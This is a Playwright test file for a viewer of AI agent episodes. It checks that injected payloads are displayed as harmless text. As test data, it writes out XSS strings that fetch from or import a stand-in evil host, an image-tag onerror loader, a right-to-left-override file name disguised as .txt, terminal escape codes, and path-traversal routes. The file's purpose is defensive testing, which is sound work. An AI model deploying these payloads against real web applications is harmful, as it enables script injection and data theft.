"""Every payload, wherever somebody can write one, drawn by a real browser: it is words there, nothing else.

Everything that is drawn is gone through: which elements there are, which attributes they have, where they
lead, and whether what steers a terminal, turns writing around or can't be seen is shown as a mark.
"""

import re
from collections.abc import Generator, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from browsing import Opened, serving, watched
from hostile import EVIL
from hostile_study import PLANTED, episode_of, hostile_study
from playwright.sync_api import Browser, expect

from ulterior.viewer.export import Export
from ulterior.viewer.library import Library
from ulterior.viewer.server import app

DRAWN = Path(__file__).with_name("drawn.js").read_text(encoding="utf-8")
FOLDER = f"<img src=x onerror=import(`%2f%2f{EVIL}`)>\u202etxt.exe"
KEY = "img-src-x-onerror-import-2f-2fevil.example-txt.exe"
AT_ADDRESSES = [text for text in PLANTED.values() if len(text) < 2_000][::2]
SERVICES = ("mailbox", "chat", "ledger", "tickets", "approvals", "forms")


@dataclass
class Place:
    """Where a hostile study is looked at, and what the browser did there beside drawing."""

    opened: Opened
    asked: list[str] = field(default_factory=list[str])
    went: list[str] = field(default_factory=list[str])
    said: list[str] = field(default_factory=list[str])

    def drawn(self, route: str) -> list[str]:
        """Go to a route as by a link, wait until it is drawn, and tell what should not be there."""
        return self.opened.page.evaluate(DRAWN, route)

    def faults(self, routes: Iterable[str]) -> dict[str, list[str]]:
        """What should not be there at any of these routes, and at which."""
        found: dict[str, list[str]] = {}
        for route in routes:
            for fault in self.drawn(route):
                found.setdefault(fault, []).append(route)
        return {fault: [f"{len(where)} times", where[0]] for fault, where in found.items()}

    def strayed(self) -> list[str]:
        """Requests, navigations, dialogs and windows that no page of ours makes."""
        ours = (self.opened.base, "data:,")
        away = [url for url in (*self.asked, *self.went) if not url.startswith(ours)]
        return [*away, *self.said]


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Library:
    return Library.open([hostile_study(tmp_path_factory.mktemp("hostile") / FOLDER)])


@pytest.fixture(scope="module")
def served_study(hostile: Library) -> Generator[str]:
    with serving(app(hostile)) as port:
        yield f"http://127.0.0.1:{port}/"


@pytest.fixture(scope="module")
def file_study(hostile: Library, tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("exported") / "hostile.html"
    Export(hostile).to_file(path)
    return path.as_uri()


@pytest.fixture(params=["served", "file"])
def place(request: pytest.FixtureRequest, browser: Browser) -> Generator[Place]:
    with looked_at(browser, request.getfixturevalue(f"{request.param}_study")) as place:
        yield place


@contextmanager
def looked_at(browser: Browser, base: str) -> Generator[Place]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce")
    page = context.new_page()
    page.set_default_timeout(20_000)
    with watched(page, base) as opened:
        place = Place(opened)

        def refused(dialog: Any) -> None:
            place.said.append(f"{dialog.type}: {dialog.message}")
            dialog.dismiss()

        page.on("request", lambda request: place.asked.append(request.url))
        page.on("framenavigated", lambda frame: place.went.append(frame.url))
        page.on("dialog", refused)
        page.on("download", lambda download: place.said.append(f"download: {download.url}"))
        opened.goto()
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        context.on("page", lambda other: place.said.append(f"window: {other.url}"))
        yield place
        assert place.strayed() == []
    context.close()


def everything_of(name: str) -> Iterator[str]:
    """An episode with all its marks, and with one of its services or the file that is called so."""
    payload = PLANTED.get(name, name)
    services = (*SERVICES, payload)
    number = [*PLANTED, name].index(name)
    service, file = escaped(services[number % len(services)]), escaped("/tmp/" + payload[:200])
    episode = f"#/s/{KEY}/e/{episode_of(name)}"
    yield f"{episode}?marks=all&f=act"
    yield f"{episode}?ev=9999&diff=start&" + (
        f"world=services&service={service}" if number % 2 else f"world=files&file={file}"
    )


def escaped(word: str) -> str:
    return quote(word.encode("utf-8", "replace"), safe="")


def test_no_episode_draws_anything_but_words(place: Place) -> None:
    served = place.opened.base.startswith("http")
    routes = [[*everything_of(name)] for name in (*PLANTED, "longest")]
    # a file draws with the same program: there, half the episodes with their marks, half with a world
    chosen = [both if served else both[number // 2 % 2 :][:1] for number, both in enumerate(routes)]
    assert place.faults(route for each in chosen for route in each) == {}
    title = place.opened.page.title()
    assert re.fullmatch(r"Episode [0-9a-f]{12}, <img src=x .*⟨U\+202E⟩txt\.exe · Ulterior", title)


def test_no_other_page_draws_anything_but_words(place: Place) -> None:
    a, b = (f"{KEY}/{episode_of(name)}" for name in ("script", "right to left"))
    routes = ["#/", f"#/s/{KEY}", f"#/s/{KEY}?m=act&q=evil", f"#/s/{KEY}/forks", f"#/compare?a={a}"]
    routes += [
        f"#/compare?a={KEY}/{episode_of(name)}&b={b}" for name in ("script", "all controls", "longest")
    ]
    routes += [f"#/flips?a={KEY}&b={KEY}"] if place.opened.base.startswith("http") else []
    routes += [f"#/s/{KEY}/labels"]
    assert place.faults(routes) == {}


def test_words_of_a_payload_can_be_read(place: Place) -> None:
    page = place.opened.page
    for name, words in (
        ("script", f"<script>fetch('//{EVIL}')</script>"),
        ("right to left", "⟨U+202E⟩trevoc⟨U+202C⟩ ⟨U+2067⟩x⟨U+2069⟩"),
        ("zero width", "co⟨U+200B⟩ve⟨U+200C⟩rt⟨U+200D⟩⟨U+FEFF⟩"),
        ("clear screen", re.compile(r"(␛|⟨ESC⟩|⟨U\+001B⟩)\[2J")),
        ("style sheet", f'<style>@import url("https://{EVIL}/x.css"); * {{ display: none }}</style>'),
        ("picture", f"![](https://{EVIL}/p.png)"),
    ):
        assert place.drawn(f"#/s/{KEY}/e/{episode_of(name)}") == []
        expect(page.get_by_role("group", name="private reasoning").first).to_contain_text(words)


def crafted(payload: str) -> tuple[str, ...]:
    """Addresses that hold a payload wherever they can."""
    word = escaped(payload[:300])

    def all_of(names: str) -> str:
        return "&".join(f"{name}={word}" for name in names.split())

    cursor = "ev f proof diff pin file world service pane hide marks"
    return (
        f"#/s/{KEY}/e/{episode_of('script')}?{all_of(cursor)}",
        f"#/s/{KEY}?{all_of('q sort model outcome m fold factor')}",
        f"#/s/{KEY}/e/{word}",
        f"#/compare?a={word}&b={word}/{word}",
    )


def test_addresses_may_say_anything(browser: Browser, file_study: str) -> None:
    """From a file, where no server has a say in it; the kinds of addresses take the payloads in turn."""
    routes = [crafted(payload)[number % 4] for number, payload in enumerate(AT_ADDRESSES)]
    with looked_at(browser, file_study) as place:
        assert place.faults(routes) == {}


def test_a_line_of_ten_megabytes_leaves_the_page_usable(place: Place) -> None:
    page = place.opened.page
    assert place.drawn(f"#/s/{KEY}/e/{episode_of('longest')}") == []
    said = page.get_by_role("region", name="Timeline").locator("[aria-live]")
    expect(said).to_have_text(re.compile("^step 1 of "))
    page.keyboard.press("l")
    expect(said).to_have_text(re.compile("^step 2 of "), timeout=5_000)
    more = page.get_by_role("button", name=re.compile("^show more: 9,980,000 characters")).first
    more.click()
    expect(
        page.get_by_role("button", name=re.compile("^show more: 9,760,000 characters")).first
    ).to_be_attached()
    page.keyboard.press("l")
    expect(said).to_have_text(re.compile("^step 3 of "), timeout=5_000)


def test_no_address_loads_a_script_from_beside_the_folders_documents(
    browser: Browser, hostile: Library, tmp_path: Path
) -> None:
    """A link is somebody else's words, too; a folder's documents are scripts, and these alone are loaded."""
    Export(hostile).to_folder(tmp_path / "exported")
    (tmp_path / "planted.js").write_text("window.ran = true")
    with looked_at(browser, (tmp_path / "exported" / "index.html").as_uri()) as place:
        folder = (tmp_path / "exported").as_uri()
        for way in ("../../../../planted", "..\\..\\..\\..\\planted", (tmp_path / "planted").as_uri()):
            assert place.drawn(f"#/s/{KEY}/e/{escaped(way)}") == []
        assert place.opened.page.evaluate("window.ran") is None
        assert [url for url in place.asked if not url.startswith((folder, "data:,"))] == []
        place.asked.clear()
